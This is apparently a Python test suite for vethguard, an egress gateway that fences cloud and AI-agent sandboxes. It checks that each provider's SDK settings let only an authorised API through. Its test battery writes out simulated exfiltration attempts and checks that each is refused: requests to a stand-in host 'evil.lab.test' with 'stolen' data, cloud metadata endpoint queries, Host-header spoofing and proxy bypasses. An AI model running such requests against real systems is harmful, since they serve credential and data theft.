# SPDX-License-Identifier: Apache-2.0
"""Sandboxes of providers: the options of contrib/node go through the provider's own SDK to a server that stands in its place, and what
arrived there is played in a namespace: its filter is the only fence, its variables are all that programs know. Then the battery."""
import ipaddress
import json
import os
import shutil
import subprocess
import sys
import time
import unittest

import lab
import support
from gateway_case import GATEWAY4, PLAIN_PORT, TLS_PORT, Gatewayed
from support import FINDING, HTTP, PACE, SECRET, SLOW, sh, wait_until

HERE = os.path.dirname(os.path.abspath(__file__))
PACKAGES = os.path.join(support.ROOT, "build", "providers", "node", "node_modules")
CLIENT = os.path.join(support.ROOT, "contrib", "node")
OUTSIDE = f"http://{lab.ORIGIN4}/"
RELAY_PORT, MARK = 9999, 77
PATIENT_S = 5 * PACE
needs_packages = unittest.skipUnless(shutil.which("node") and os.path.isdir(PACKAGES),
                                     "needs node and the packages that make check-providers installs")


class Provided(Gatewayed):
    """The gateway is named by its address, and its host forwards: without a filter, the sandbox reaches everything."""

    def gateway(self):
        return super().gateway().replace("  name: gateway.lab.test\n", "")

    def link(self):
        super().link()
        sh("sysctl", "-qw", "net.ipv4.ip_forward=1")
        sh("nft", "add table ip played; add chain ip played out { type nat hook postrouting priority 100; }; "
                  "add rule ip played out ip saddr 10.77.0.0/24 oifname up0 masquerade")
        self.addCleanup(subprocess.run, ["nft", "delete table ip played"], check=False)
        sh("ip", "-n", self.elsewhere, "route", "add", "default", "via", GATEWAY4)

    def sdk(self, provider, way=None):
        """What arrived at the provider, made with the session's options: {options, requests, files}."""
        folder = support.LAB.path("providers")
        if not os.path.isdir(folder):
            os.makedirs(folder)
            shutil.copy(os.path.join(HERE, "node", "sdks.mjs"), folder)
            os.symlink(PACKAGES, os.path.join(folder, "node_modules"))
            os.symlink(CLIENT, os.path.join(folder, "vethguard"))
        self.ca_inside, self.bundle_inside = os.path.join(self.dir, "inside-ca.pem"), os.path.join(self.dir, "inside-bundle.pem")
        r = subprocess.run(["node", "sdks.mjs", provider, self.daemon.socket, "one", self.token, self.ca_inside, self.bundle_inside,
                            self.certificate + ".pem", *([way] if way else [])], cwd=folder, capture_output=True, text=True, timeout=120 * SLOW,
                           env={"PATH": os.environ["PATH"], "HOME": folder})
        self.assertEqual(r.returncode, 0, r)
        answer = json.loads(r.stdout.strip().splitlines()[-1])
        self.assertIsNone(answer["failure"], r.stderr)
        for path, text in answer["files"].items():
            with open(path, "w") as f:
                f.write(text)
        return answer

    def fence(self, *allowed):
        """The provider's filter: TCP to these networks (and ports) and nothing else."""
        rules = "".join(f"add rule inet provider out ip daddr {net} tcp dport {port or '0-65535'} accept\n" for net, port in allowed)
        r = subprocess.run(["ip", "netns", "exec", self.elsewhere, "nft", "-f", "-"], text=True, capture_output=True,
                           input="add table inet provider\nadd chain inet provider out { type filter hook output priority 0; policy drop; }\n"
                                 "add rule inet provider out oifname lo accept\n" + rules)
        self.assertEqual(r.returncode, 0, r.stderr)

    def inside(self, *argv, env, **kw):
        return self.there("env", "-i", f"PATH={os.environ['PATH']}", *(f"{k}={v}" for k, v in env.items()), *argv, **kw)

    def curl_inside(self, *argv, env, extra=()):
        # A private certificate of the gateway is curl's only by an option; the battery has Python without any.
        proxied = ("--proxy-cacert", self.bundle_inside) if "https_proxy" in env else ()
        return self.inside("curl", "-sS", "-m", "20", *proxied, *extra, *argv, env=env)

    def open_before(self):
        self.assertEqual(self.there("curl", "-s", "-o", "/dev/null", "-m", "20", OUTSIDE).returncode, 0, "there is no way out to be fenced")

    def probe(self, env, seconds=1):
        script = subprocess.run([lab.VETHGUARD, "probe", "--json", "--timeout", str(seconds), "--tcp", f"{lab.ORIGIN4}:443 {lab.ORIGIN4}:80",
                                 "--name", "evil.lab.test", "--udp", f"{lab.ORIGIN4}:123", "--dns", lab.DNS4, "--icmp", lab.ORIGIN4,
                                 "--metadata", "169.254.169.254:80", "--without", "socket name"], capture_output=True, text=True, check=True).stdout
        tries = json.loads(self.inside("sh", env=env, input=script).stdout)["tries"]
        if any("did not begin in time" in t["detail"] for t in tries):  # on a busy machine: more time, as the probe advises
            self.assertLess(seconds, PATIENT_S, tries)
            return self.probe(env, PATIENT_S)
        return {(t["way"], t["target"]) for t in tries if t["result"] == "leaks"}

    def battery(self, env, extra=(), leaks=(), refused="evil.lab.test"):
        """refused: a host whose requests reach the gateway, which refuses them."""
        self.assertNotIn(SECRET, json.dumps(env))
        self.assertEqual(self.probe(env), set(leaks))
        # allowed, with a credential that the sandbox does not have
        r = self.curl_inside("https://api.lab.test/whoami", env=env, extra=extra)
        self.assertIn('"authenticated": true', r.stdout, (r, self.daemon.stderr()))
        # refused: other hosts, methods, addresses, ports
        for argv in (("https://evil.lab.test/?q=stolen",), ("-X", "DELETE", "https://api.lab.test/x"), ("-d", "stolen", "https://api.lab.test/x"),
                     (f"https://{lab.EVIL4}/",), ("http://169.254.169.254/latest/",), ("https://api.lab.test:8443/",),
                     ("-H", "Host: evil.lab.test", "https://api.lab.test/x"), (f"http://{GATEWAY4}:{PLAIN_PORT}/",)):
            r = self.curl_inside("-o", "/dev/null", "-w", "%{http_connect} %{http_code}", *argv, env=env, extra=extra)
            self.assertTrue(r.returncode or any(code in r.stdout for code in ("403", "421", "400", "407")), (argv, r))
            self.assertNotIn(" 200", r.stdout, argv)
        # direct, whatever the variables say
        for argv in ((OUTSIDE,), (f"https://{lab.ORIGIN4}/",), ("http://169.254.169.254/",)):
            r = self.curl_inside("-k", "--noproxy", "*", "-m", "2", *argv, env=env)
            self.assertNotIn('"path"', r.stdout, argv)
        # what happened is told
        self.assertTrue(self.daemon.event(HTTP, action_id=1, **{"http_request.url.path": "/whoami"}))
        self.assertTrue(self.daemon.event(HTTP, action_id=2, **{"http_request.http_method": "DELETE"}))
        text = json.dumps(self.daemon.events())
        self.assertIn(refused, text)
        self.assertNotIn(SECRET, text)
        self.assertNotIn(self.token, text)
        self.revoke(env, extra)

    def revoke(self, env, extra):
        """An open stream ends at once, and nothing comes after it."""
        trickle = support.Trickle()
        proxied = ("--proxy-cacert", self.bundle_inside) if "https_proxy" in env else ()
        stream = subprocess.Popen(["ip", "netns", "exec", self.elsewhere, "env", "-i", f"PATH={os.environ['PATH']}",
                                   *(f"{k}={v}" for k, v in env.items()), "curl", "-sSN", *proxied, *extra, "-o", trickle.out, trickle.url],
                                  stderr=subprocess.DEVNULL)
        try:
            self.assertTrue(trickle.begun())
            revoked = time.monotonic()
            self.assertEqual(self.daemon.call("DELETE", "/v1/sessions/one")[0], 200)
            self.assertNotEqual(stream.wait(60 * SLOW), 0)
            self.assertLess(time.monotonic() - revoked, 10 * SLOW)
        finally:
            stream.kill()
            stream.wait()
        r = self.curl_inside("https://api.lab.test/whoami", env=env, extra=extra)
        self.assertNotEqual(r.returncode, 0)
        self.assertEqual(r.stdout, "")


@needs_packages
class ByProxy(Provided):
    """Providers whose filter names the gateway, and whose variables name it as the proxy."""

    def made(self, answer, method, path):
        return next(r["body"] for r in answer["requests"] if (r["method"], r["path"]) == (method, path))

    def check(self, allowed, env):
        self.open_before()
        self.assertEqual(env["HTTPS_PROXY"], f"https://session:{self.token}@{GATEWAY4}:{TLS_PORT}")
        self.assertEqual(env["SSL_CERT_FILE"], self.bundle_inside)
        self.assertTrue(env["API_KEY"] and env["API_KEY"] != SECRET)
        for network, _ in allowed:
            self.assertEqual(ipaddress.ip_network(network), ipaddress.ip_network(GATEWAY4))
        self.fence(*allowed)
        r = self.inside(support.PYTHON, "-c", "import requests; print(requests.get('https://api.lab.test/whoami', timeout=20).text)", env=env)
        self.assertIn('"authenticated": true', r.stdout, r)
        self.battery(env)

    def test_daytona(self):
        body = self.made(self.sdk("daytona"), "POST", "/sandbox")
        self.check([(body["networkAllowList"], None)], body["env"])

    def test_deno(self):
        answer = self.sdk("deno")
        body = self.made(answer, "WEBSOCKET", "/api/v3/sandboxes/create")
        self.assertEqual(body["allow_net"], [f"{GATEWAY4}:{TLS_PORT}"])
        env = {r["body"]["key"]: r["body"]["value"] for r in answer["requests"] if r["method"] == "envSet"}
        self.check([(GATEWAY4, TLS_PORT)], env)

    def test_runloop(self):
        answer = self.sdk("runloop")
        policy = self.made(answer, "POST", "/v1/network-policies")
        self.assertIs(policy["allow_all"], False)
        devbox = self.made(answer, "POST", "/v1/devboxes")
        self.assertEqual(devbox["launch_parameters"]["network_policy_id"], "npol_1")
        self.assertIn("BEGIN CERTIFICATE", devbox["file_mounts"][self.bundle_inside])
        self.check([(c["cidr"], p["port"]) for c in policy["allowed_cidrs"] for p in c["ports"]], devbox["environment_variables"])

    def test_langsmith(self):
        body = self.made(self.sdk("langsmith"), "POST", "/boxes")
        self.check([(host, None) for host in body["proxy_config"]["access_control"]["allow_list"]], body["run_config"]["env_vars"])

    def vercel(self, provider):
        body = self.made(self.sdk(provider), "POST", "/v3/sandboxes")
        self.assertNotIn("allow", body["networkPolicy"])
        self.check([(network, None) for network in body["networkPolicy"]["subnets"]["allow"]], body["env"])

    def test_vercel(self):
        self.vercel("vercel")

    def test_openai_agents(self):
        """Vercel's client of @openai/agents-extensions."""
        self.vercel("openaiAgents")

    def test_e2b(self):
        body = self.made(self.sdk("e2b", "proxy"), "POST", "/v2/sandboxes")
        self.assertEqual(body["network"]["denyOut"], ["0.0.0.0/0"])
        self.check([(network, None) for network in body["network"]["allowOut"]], body["envVars"])

    def test_modal(self):
        """Its API is gRPC: the texts of the message, with the numbers of their fields."""
        answer = self.sdk("modal")
        body = next(r["body"] for r in answer["requests"] if r["method"].startswith("SandboxCreate"))
        networks = [text for path, text in body if path == "2.22.2"]  # definition.network_access.allowed_cidrs
        self.assertEqual(dict(body)["2.22.1"], 3, body)  # its kind: an allow list
        env = dict(zip([text for path, text in body if path == "6.2.1.1"], [text for path, text in body if path == "6.2.1.2"], strict=True))
        self.assertEqual(env, answer["options"]["env"])
        self.assertEqual(len(networks), 1, body)
        self.check([(networks[0], None)], env)


def lead(case, port):
    """What a provider's host does with all TCP of a sandbox."""
    rules = ("add table ip led\nflush table ip led\nadd chain ip led out { type nat hook output priority -100; }\n"
             f"add rule ip led out meta mark != {MARK} ip daddr != 127.0.0.0/8 meta l4proto tcp redirect to :{port}\n")
    subprocess.run(["ip", "netns", "exec", case.elsewhere, "nft", "-f", "-"], input=rules, text=True, check=True)


@needs_packages
class BySocks(Provided):
    """E2B leads all TCP through the gateway's SOCKS5: programs inside know of no proxy."""

    def test_e2b(self):
        answer = self.sdk("e2b")
        body = next(r["body"] for r in answer["requests"] if r["path"] == "/v2/sandboxes")
        proxy = body["network"]["egressProxy"]
        self.assertEqual(proxy, {"address": f"{GATEWAY4}:{PLAIN_PORT}", "username": "session", "password": self.token})
        env = body["envVars"]
        self.assertFalse([name for name in env if "proxy" in name.lower()], env)
        self.open_before()
        host, _, port = proxy["address"].rpartition(":")
        for at, kind in ((RELAY_PORT, "name"), (RELAY_PORT + 1, "address")):
            relay = subprocess.Popen(["ip", "netns", "exec", self.elsewhere, sys.executable, os.path.join(HERE, "socks_relay.py"), str(at), host, port,
                                      proxy["username"], proxy["password"], str(MARK), kind], stdout=subprocess.PIPE)
            self.addCleanup(relay.stdout.close)
            self.addCleanup(relay.wait)
            self.addCleanup(relay.kill)
            self.assertEqual(relay.stdout.readline(), b"ready\n")
        lead(self, RELAY_PORT + 1)
        # A rule is about a name, and an address that a sandbox dials says nothing of it: the gateway has to be told names.
        by_address = ("--resolve", f"api.lab.test:443:{lab.ORIGIN4}")
        self.assertNotEqual(self.curl_inside(*by_address, "https://api.lab.test/whoami", env=env).returncode, 0)
        lead(self, RELAY_PORT)
        # DNS is not led: the sandbox's resolver answers it, and it leads out.
        names = ("--resolve", f"api.lab.test:443:{lab.ORIGIN4}", "--resolve", f"evil.lab.test:443:{lab.EVIL4}",
                 "--resolve", f"api.lab.test:8443:{lab.ORIGIN4}")
        self.battery(env, extra=names, leaks={("dns", lab.DNS4), ("icmp", lab.ORIGIN4)})

@needs_packages
class ByForwarding(Provided):
    """Vercel's own proxy forwards requests to base URLs of the gateway: programs inside know of no proxy, and see no token."""

    def test_vercel(self):
        answer = self.sdk("vercel", "forward")
        body = next(r["body"] for r in answer["requests"] if r["path"] == "/v3/sandboxes")
        self.assertEqual(body["networkPolicy"], {"allow": {host: [{"forwardURL": f"https://{GATEWAY4}:{TLS_PORT}/s/{self.token}/https/{host}"}]
                                                           for host in ("api.lab.test", "plain.lab.test")}})
        self.assertNotIn(self.token, json.dumps(body["env"]))
        self.open_before()
        provider = os.path.join(self.dir, "vercel")
        sh("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "2", "-keyout", provider + ".key",
           "-out", provider + ".pem", "-subj", "/CN=played", "-addext", "subjectAltName=DNS:*.lab.test")
        log = os.path.join(self.dir, "vercel.log")
        player = subprocess.Popen(["ip", "netns", "exec", self.elsewhere, sys.executable, os.path.join(HERE, "vercel_proxy.py"), str(RELAY_PORT), provider,
                                   self.certificate + ".pem", str(MARK), json.dumps(body["networkPolicy"]["allow"]), log], stdout=subprocess.PIPE)
        self.addCleanup(player.stdout.close)
        self.addCleanup(player.wait)
        self.addCleanup(player.kill)
        self.assertEqual(player.stdout.readline(), b"ready\n")
        lead(self, RELAY_PORT)
        self.fence((GATEWAY4, TLS_PORT), ("127.0.0.0/8", None))
        env = {**body["env"], "CURL_CA_BUNDLE": provider + ".pem", "SSL_CERT_FILE": provider + ".pem"}
        names = [argument for host in ("api.lab.test:443", "plain.lab.test:443", "api.lab.test:8443", "evil.lab.test:443")
                 for argument in ("--resolve", f"{host}:{lab.ORIGIN4}")]
        # What Vercel's proxy adds tells the token to whom it is sent: it ends at the gateway.
        r = self.curl_inside("https://api.lab.test/echo?x=1", env=env, extra=names)
        self.assertEqual(json.loads(r.stdout)["path"], "/echo?x=1", r)
        self.assertFalse([name for name in json.loads(r.stdout)["headers"] if name.lower().startswith("vercel")], r)
        with open(log) as f:
            self.assertIn("vercel-sandbox-oidc-token", f.read())
        r = self.curl_inside("-o", "/dev/null", "-w", "%{http_code}", "https://plain.lab.test/", env=env, extra=names)
        self.assertEqual(r.stdout, "403", r)  # forwarded, and no rule
        self.battery(env, extra=(*names, "-f"), refused="plain.lab.test")  # -f: the gateway's refusals are responses

    def test_hosts(self):
        for hosts in ("[]", "['*']", "['a.test/x']", "['a.test', 'b']", "['']"):
            code = (f"import * as v from {json.dumps(CLIENT + '/index.js')};\n"
                    f"const s = new v.Vethguard({{socket: {json.dumps(self.daemon.socket)}}}).session('one', {json.dumps(self.token)});\n"
                    f"await v.vercel(s, {{way: 'forward', hosts: {hosts}}}).then(() => console.log('made'), (e) => console.log(e.message));")
            r = subprocess.run(["node", "--input-type=module", "-e", code], capture_output=True, text=True, timeout=60 * SLOW)
            self.assertTrue(r.stdout.startswith("hosts: the names"), (hosts, r))

    def test_unknown_ways(self):
        for call in ("vercel(s, {way: 'forwards', hosts: ['a.test']})", "e2b(s, {way: 'http'})"):
            code = (f"import * as v from {json.dumps(CLIENT + '/index.js')};\n"
                    f"const s = new v.Vethguard({{socket: {json.dumps(self.daemon.socket)}}}).session('one', {json.dumps(self.token)});\n"
                    f"await v.{call}.then(() => console.log('made'), (e) => console.log(e.message));")
            r = subprocess.run(["node", "--input-type=module", "-e", code], capture_output=True, text=True, timeout=60 * SLOW)
            self.assertRegex(r.stdout, "^way: .* is none of ", (call, r))


class Client(Gatewayed):
    """contrib/node and contrib/python themselves, against the daemon."""
    maxDiff = None

    def node(self, code):
        code = f"import * as v from {json.dumps(CLIENT + '/index.js')};\nconst c = new v.Vethguard({{socket: {json.dumps(self.daemon.socket)}}});\n" + code
        return subprocess.run(["node", "--input-type=module", "-e", code], capture_output=True, text=True, timeout=60 * SLOW)

    def python(self):
        sys.path.insert(0, os.path.join(support.ROOT, "contrib", "python"))
        self.addCleanup(sys.path.remove, os.path.join(support.ROOT, "contrib", "python"))
        import vethguard
        return vethguard, vethguard.Vethguard(socket=self.daemon.socket)

    def test_sessions_in_python(self):
        module, client = self.python()
        session = client.create_session(self.policy, name="two", ttl="1h", labels={"a": "b"}, from_="10.77.0.0/24")
        self.assertEqual(session.show()["labels"], {"a": "b"})
        self.assertNotIn(session.token, repr(session))
        self.assertTrue(self.asks(token=session.token))
        session.extend("2h")
        self.assertIn("two", [s["name"] for s in client.sessions()])
        session.revoke()
        self.assert_unknown(token=session.token)
        for call, status in ((lambda: client.create_session("relative"), 422), (lambda: client.create_session(self.policy, name="one"), 409),
                             (session.show, 404), (session.revoke, 404), (lambda: client.create_session(self.policy, ttl="soon"), 0),
                             (lambda: client.create_session(self.policy, from_="x"), 422), (lambda: session.extend(0), 0),
                             (lambda: module.Vethguard(socket="/none").sessions(), 0), (lambda: module.e2b(client.session("one")), 0),
                             (lambda: module.openai_agents(client.session("one", self.token), client="fly"), 0)):
            with self.assertRaises(module.VethguardError) as caught:
                call()
            self.assertEqual(caught.exception.status, status, caught.exception)
            self.assertNotIn(self.token, str(caught.exception))

    @unittest.skipUnless(shutil.which("node"), "needs node")
    def test_sessions_in_node(self):
        r = self.node(f"""
const s = await v.createSession({{client: c, policy: {json.dumps(self.policy)}, name: "two", ttl: "1h", labels: {{a: "b"}}, from: "10.77.0.0/24"}});
const out = [(await s.show()).labels, s.token, JSON.stringify(s).includes(s.token), (await c.sessions()).map((x) => x.name)];
await s.extend("2h");
const failures = [];
for (const call of [() => c.createSession({{policy: "relative"}}), () => c.createSession({{policy: {json.dumps(self.policy)}, name: "one"}}),
  () => c.session("none").show(), () => s.extend("soon"), () => new v.Vethguard({{socket: "/none"}}).sessions(), () => v.e2b(c.session("one")),
  () => v.openaiAgents(c.session("one", "x"), {{client: "fly"}}), () => c.createSession({{policy: "/none.yaml"}})])
  try {{ await call(); failures.push("none"); }} catch (error) {{ failures.push(error.status ?? 0); }}
console.log(JSON.stringify([...out, failures]));
""")
        self.assertEqual(r.returncode, 0, r)
        labels, token, shown, names, failures = json.loads(r.stdout)
        self.assertEqual((labels, shown, failures), ({"a": "b"}, False, [422, 409, 404, 0, 0, 0, 0, 422]))
        self.assertIn("two", names)
        self.assertTrue(self.asks(token=token))

    @unittest.skipUnless(shutil.which("node"), "needs node")
    def test_both_say_the_same(self):
        """For each provider; and the variables are those of `vethguard env`."""
        module, client = self.python()
        session = client.session("one", self.token)
        r = self.node(f"""
const s = c.session("one", {json.dumps(self.token)});
const out = {{}};
for (const p of ["e2b", "modal", "daytona", "deno", "langsmith", "vercel", "openaiAgents", "runloop"]) {{
  out[p] = await v[p](s);
  if (p === "runloop") out[p] = [out[p].networkPolicy, out[p].devbox("id")];
}}
out.strict = await v.e2b(s, {{way: "proxy"}});
out.forward = await v.vercel(s, {{way: "forward", hosts: ["api.lab.test", "b.test"]}});
console.log(JSON.stringify(out));
""")
        self.assertEqual(r.returncode, 0, r)
        node = json.loads(r.stdout)
        policy, devbox = module.runloop(session)
        python = {"e2b": module.e2b(session), "modal": module.modal(session), "daytona": module.daytona(session), "deno": module.deno(session),
                  "langsmith": module.langsmith(session), "vercel": module.vercel(session), "openaiAgents": module.openai_agents(session),
                  "runloop": [policy, devbox("id")], "strict": module.e2b(session, way="proxy"),
                  "forward": module.vercel(session, way="forward", hosts=["api.lab.test", "b.test"])}
        for hosts in ((), "api.lab.test", ["*"], ["a.test/x"], ["a.test", "b"]):
            self.assertRaises(module.VethguardError, module.vercel, session, way="forward", hosts=hosts)

        def plain(value):
            """Without what the languages spell differently."""
            if isinstance(value, dict):
                return {k.replace("_", "").lower() if not k.isupper() else k: plain(v) for k, v in value.items()}
            return [plain(v) for v in value] if isinstance(value, list) else value
        self.assertEqual(plain(python), plain(node))
        r = self.daemon.cli("env", "one", "--token-file", "-", "--format", "json", "--ca", module.CA, "--ca-bundle", module.BUNDLE, input=self.token)
        wanted = json.loads(r.stdout)
        for value in (node["modal"]["env"], python["modal"]["env"]):
            self.assertEqual(value, wanted)
        for provider, field in (("modal", "outboundDomainAllowlist"), ("daytona", "domainAllowList"), ("deno", "allowNet")):
            told = json.loads(self.daemon.cli("env", "one", "--token-file", "-", "--format", provider, input=self.token).stdout)
            self.assertEqual(told[field], node[provider][field], provider)
        self.assertIn("gateway.lab.test", json.dumps(node["modal"]["outboundDomainAllowlist"]))

    def test_over_http(self):
        """Through an operator's own reverse proxy, which here is a few lines of Python that wants a password."""
        import http.server
        import threading
        daemon = self.daemon

        class Front(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                ok = self.headers.get("Authorization") == "Bearer front"
                status, _, answer = daemon.call("GET", self.path.removeprefix("/vethguard")) if ok else (401, None, {"detail": "who?"})
                data = json.dumps(answer).encode()
                self.send_response(status)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *_):
                pass
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Front)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        self.addCleanup(server.server_close)
        self.addCleanup(server.shutdown)
        url = f"http://127.0.0.1:{server.server_port}/vethguard"
        module, _ = self.python()
        self.assertEqual([s["name"] for s in module.Vethguard(url=url, headers={"Authorization": "Bearer front"}).sessions()], ["one"])
        with self.assertRaises(module.VethguardError) as caught:
            module.Vethguard(url=url).sessions()
        self.assertEqual(caught.exception.status, 401)
        if shutil.which("node"):
            r = self.node(f"const h = new v.Vethguard({{url: {json.dumps(url)}, headers: {{Authorization: 'Bearer front'}}}});\n"
                          "console.log(JSON.stringify((await h.sessions()).map((s) => s.name)));")
            self.assertEqual(r.stdout.strip(), '["one"]', r)
